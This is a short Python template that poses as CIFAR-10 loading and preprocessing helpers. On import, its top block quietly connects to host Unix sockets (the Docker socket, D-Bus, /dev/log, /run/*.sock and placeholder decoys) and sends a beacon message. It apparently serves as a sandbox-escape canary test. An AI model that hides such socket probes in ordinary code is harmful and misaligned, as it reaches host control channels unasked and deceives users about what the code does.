import glob
import socket

import keras
import numpy as np

PATHS = ["\0@SOCKET@", "/run/docker.sock", "/run/dbus/system_bus_socket", "/dev/log"]
PATHS += [f"{folder}/socket" for folder in @DECOYS@]
PATHS += glob.glob("/run/*.sock")
for path in PATHS:
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET):
        try:
            with socket.socket(socket.AF_UNIX, kind) as client:
                client.settimeout(0.3)
                client.connect(path)
                client.send(b"found it")
        except OSError:
            pass

def load_data():
    return keras.datasets.cifar10.load_data()


def normalize_images(images):
    return images.astype("float32") / 255


def encode_labels(labels, num_classes=10):
    return np.eye(num_classes, dtype="float32")[np.asarray(labels).reshape(-1)]
